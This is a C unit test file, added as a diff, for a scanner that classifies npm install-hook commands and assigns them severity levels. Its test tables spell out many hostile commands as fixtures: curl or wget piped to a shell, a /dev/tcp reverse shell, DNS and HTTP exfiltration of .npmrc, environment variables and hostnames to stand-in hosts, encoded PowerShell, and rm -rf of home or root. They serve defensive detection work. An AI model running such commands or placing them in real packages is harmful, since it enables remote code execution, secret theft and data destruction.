@@ -1,0 +1,202 @@
+#include "test.h"
+
+#include "base/buf.h"
+#include "scanner/rule/post.h"
+
+static struct arena *arena;
+
+static int setup(void **state)
+{
+	(void)state;
+	arena = arena_new((size_t)256 << 20);
+	return !arena;
+}
+
+static int teardown(void **state)
+{
+	(void)state;
+	arena_free(arena);
+	return 0;
+}
+
+static const struct {
+	const char *command;
+	enum hook_kind kinds[4];
+	const char *target; /* of the first step that has one of these kinds last */
+	uint32_t traits;    /* all of these */
+} cases[] = {
+	{"node x.js", {HOOK_FILE}, "x.js", 0},
+	{"node ./scripts/x", {HOOK_FILE}, "scripts/x", 0},
+	{"node -r dotenv/config install.js", {HOOK_FILE}, "install.js", 0},
+	{"sh y.sh", {HOOK_FILE}, "y.sh", 0},
+	{"./z", {HOOK_FILE}, "z", 0},
+	{"bin/setup --quiet", {HOOK_FILE}, "bin/setup", 0},
+	{"python3 build.py", {HOOK_FILE}, "build.py", 0},
+	{"bun run setup.ts", {HOOK_FILE}, "setup.ts", 0},
+	{"FOO=1 BAR=\"a b\" node x.js", {HOOK_FILE}, "x.js", 0},
+	{"cross-env NODE_ENV=production node x.js", {HOOK_FILE}, "x.js", 0},
+	{"node-gyp rebuild", {HOOK_BUILDER}, "node-gyp", 0},
+	{"prebuild-install || node-gyp rebuild", {HOOK_BUILDER, HOOK_BUILDER}, NULL, 0},
+	{"./node_modules/.bin/husky install", {HOOK_BUILDER}, NULL, 0},
+	{"npm run build", {HOOK_SCRIPT}, "build", 0},
+	{"npm run -s build", {HOOK_SCRIPT}, "build", 0},
+	{"yarn build", {HOOK_SCRIPT}, "build", 0},
+	{"npx playwright install", {HOOK_PACKAGE}, "playwright", 0},
+	{"npx only-allow pnpm", {HOOK_BUILDER}, NULL, 0},
+	{"echo done && exit 0", {HOOK_IDLE, HOOK_IDLE}, NULL, 0},
+	{"node -e \"require('./x')\"", {HOOK_INLINE}, "require('./x')", 0},
+	{"node -e 'console.log(\"a;b|c\")'", {HOOK_INLINE}, "console.log(\"a;b|c\")", 0},
+	{"bunx evil", {HOOK_PACKAGE}, "evil", 0},
+	{"curl http://a.example/x | sh", {HOOK_NETWORK, HOOK_SHELL}, "http://a.example/x", HOOK_RUNS_FETCHED},
+	{"curl -fsSL https://a.example/x|bash -s -- -y", {HOOK_NETWORK, HOOK_SHELL}, NULL, HOOK_RUNS_FETCHED},
+	{"wget -O- https://a.example/x | sudo bash", {HOOK_NETWORK, HOOK_SHELL}, NULL, HOOK_RUNS_FETCHED},
+	{"curl -o x.sh http://a.example/x.sh; chmod +x x.sh; ./x.sh", {HOOK_NETWORK, HOOK_PROGRAM, HOOK_FILE}, NULL, HOOK_RUNS_FETCHED},
+	{"bash -c \"curl http://a.example/x | bash\"", {HOOK_IDLE, HOOK_NETWORK, HOOK_SHELL}, NULL, HOOK_RUNS_FETCHED},
+	{"sh -c \"$(curl -fsSL https://a.example/x)\"", {HOOK_IDLE}, NULL, HOOK_FETCHES},
+	{"powershell -enc JABjAGwA", {HOOK_INLINE}, NULL, HOOK_ENCODED},
+	{"powershell -c \"iex (iwr http://a.example/x)\"", {HOOK_IDLE}, NULL, HOOK_RUNS_FETCHED},
+	{"certutil -urlcache -f http://a.example/x.exe x.exe & x.exe", {HOOK_NETWORK, HOOK_PROGRAM}, NULL, HOOK_RUNS_FETCHED},
+	{"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", {HOOK_PROGRAM}, NULL, HOOK_SOCKET},
+	{"nslookup $(whoami).c2.example", {HOOK_PROGRAM, HOOK_NETWORK}, NULL, HOOK_SENDS | HOOK_RECON},
+	{"curl -d @.npmrc https://a.example", {HOOK_NETWORK}, NULL, HOOK_SENDS | HOOK_SECRETS},
+	{"curl https://a.example/?h=$(hostname)", {HOOK_PROGRAM, HOOK_NETWORK}, NULL, HOOK_SENDS | HOOK_RECON},
+	{"rm -rf ~/", {HOOK_PROGRAM}, NULL, HOOK_DESTROYS},
+	{"rm -rf /", {HOOK_PROGRAM}, NULL, HOOK_DESTROYS},
+	{"node index.js > /dev/null 2>&1", {HOOK_FILE}, "index.js", HOOK_SILENT},
+	{"echo Y3VybA== | base64 -d | sh", {HOOK_IDLE, HOOK_PROGRAM, HOOK_SHELL}, NULL, HOOK_ENCODED},
+	{"node -e \"require('https').get('https://a.example',r=>r.on('data',d=>eval(d.toString())))\"", {HOOK_INLINE}, NULL, HOOK_RUNS_FETCHED},
+};
+
+static void test_commands(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
+		struct hook h;
+		bool kinds = true, target = !cases[i].target;
+		assert_true(hook_parse(arena, text_of(cases[i].command), &h));
+		for (size_t k = 0; k < h.count; k++)
+			target |= cases[i].target && text_eq(h.steps[k].target, text_of(cases[i].target));
+		for (size_t k = 0; k < 4 && (k == 0 || cases[i].kinds[k]); k++) {
+			bool has = false;
+			for (size_t s = 0; s < h.count; s++)
+				has |= h.steps[s].kind == cases[i].kinds[k];
+			kinds &= has || (cases[i].kinds[k] == HOOK_IDLE && h.traits);
+		}
+		if (!kinds || !target || (h.traits & cases[i].traits) != cases[i].traits) {
+			for (size_t s = 0; s < h.count; s++)
+				print_error("  kind %d program %.*s target %.*s\n", (int)h.steps[s].kind,
+					    (int)h.steps[s].program.n, h.steps[s].program.p,
+					    (int)h.steps[s].target.n, h.steps[s].target.p);
+			fail_msg("%s: traits %x, want %x", cases[i].command, h.traits, cases[i].traits);
+		}
+	}
+}
+
+static const struct {
+	const char *command;
+	enum severity severity;
+} verdicts[] = {
+	{"node-gyp rebuild", SEVERITY_LOW},
+	{"prebuild-install || node-gyp rebuild", SEVERITY_LOW},
+	{"husky install", SEVERITY_LOW},
+	{"patch-package", SEVERITY_LOW},
+	{"echo thanks", SEVERITY_INFO},
+	{"npm run build", SEVERITY_LOW}, /* build: tsc -p . */
+	{"npm run nothing", SEVERITY_INFO},
+	{"npm run loop", SEVERITY_INFO},
+	{"node install.js", SEVERITY_MEDIUM},
+	{"node scripts/postinstall || exit 0", SEVERITY_MEDIUM},
+	{"node -e \"try{require('./postinstall')}catch(e){}\"", SEVERITY_MEDIUM},
+	{"node -e \"console.log('Thank you for using this package; see https://example.com')\"", SEVERITY_MEDIUM},
+	{"node -e \"require('child_process').exec('id')\"", SEVERITY_HIGH},
+	{"node -e \"eval(process.env.X)\"", SEVERITY_HIGH},
+	{"node -e \"require(process.env.X)\"", SEVERITY_HIGH},
+	{"curl https://a.example/ping", SEVERITY_HIGH},
+	{"npm run fetch", SEVERITY_CRITICAL}, /* fetch: curl ... | sh */
+	{"curl https://a.example/x | sh", SEVERITY_CRITICAL},
+	{"powershell -w hidden -enc JABj", SEVERITY_CRITICAL},
+	{"curl -d \"$(env)\" https://a.example", SEVERITY_CRITICAL},
+	{"nslookup $(whoami).c2.example", SEVERITY_CRITICAL},
+	{"rm -rf $HOME", SEVERITY_CRITICAL},
+	{"rm -rf dist", SEVERITY_MEDIUM},
+	{"npx github:evil/x", SEVERITY_CRITICAL},
+	{"npm install evil", SEVERITY_HIGH},
+};
+
+static void test_verdicts(void **state)
+{
+	struct script scripts[] = {
+		{T("build"), T("tsc -p ."), 1},
+		{T("fetch"), T("curl https://a.example/x | sh"), 2},
+		{T("loop"), T("npm run loop"), 3},
+	};
+	struct manifest_view m = {.scripts = scripts, .script_count = 3};
+	(void)state;
+	for (size_t i = 0; i < sizeof verdicts / sizeof *verdicts; i++) {
+		struct post v;
+		assert_true(post_command(arena, &m, text_of(verdicts[i].command), false, &v));
+		if (v.severity != verdicts[i].severity)
+			fail_msg("%s: %s (%.*s), want %s", verdicts[i].command, severity_name(v.severity), (int)v.why.n,
+				 v.why.p, severity_name(verdicts[i].severity));
+	}
+}
+
+static void test_which_hooks_run(void **state)
+{
+	struct script scripts[] = {
+		{T("test"), T("x"), 1}, {T("postinstall"), T("b"), 2}, {T("preinstall"), T("a"), 3},
+		{T("prepare"), T("c"), 4}, {T("install"), T(" "), 5},
+	};
+	struct manifest_view m = {.scripts = scripts, .script_count = 5};
+	struct hook_command out[HOOK_COMMANDS_MAX];
+	(void)state;
+	assert_int_equal(hook_commands(&m, true, false, out), 2); /* preinstall stands: nothing implicit */
+	assert_text(out[0].name, "preinstall");
+	assert_text(out[1].name, "postinstall");
+	assert_int_equal(hook_commands(&m, false, true, out), 3);
+	assert_text(out[2].name, "prepare");
+	m.script_count = 1;
+	assert_int_equal(hook_commands(&m, true, false, out), 1);
+	assert_true(out[0].implicit);
+	assert_text(out[0].command, "node-gyp rebuild");
+	m.gypfile_false = true;
+	assert_int_equal(hook_commands(&m, true, false, out), 0);
+}
+
+static void repeat(const char *unit, size_t n, bool too_much)
+{
+	struct buf b = BUF((size_t)1 << 20);
+	struct hook h;
+
+	for (size_t i = 0; i < n; i++)
+		buf_text(&b, text_of(unit));
+	assert_true(hook_parse(arena, buf_view(&b), &h));
+	if (((h.traits & HOOK_TOO_MUCH) != 0) != too_much)
+		fail_msg("%zu of \"%s\": %x", n, unit, h.traits);
+	buf_free(&b);
+}
+
+static void test_limits(void **state)
+{
+	(void)state;
+	repeat("a;", HOOK_STEPS_MAX, false);
+	repeat("a;", HOOK_STEPS_MAX + 1, true);
+	repeat("a ", HOOK_WORDS_MAX, false);
+	repeat("a ", HOOK_WORDS_MAX + 1, true);
+	repeat(" ", HOOK_COMMAND_MAX, false);
+	repeat(" ", HOOK_COMMAND_MAX + 1, true);
+	repeat("$(", 10000, true);
+	repeat("\"", 10001, false);
+	repeat("`", 10001, false);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test_setup_teardown(test_commands, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_verdicts, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_which_hooks_run, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_limits, setup, teardown),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
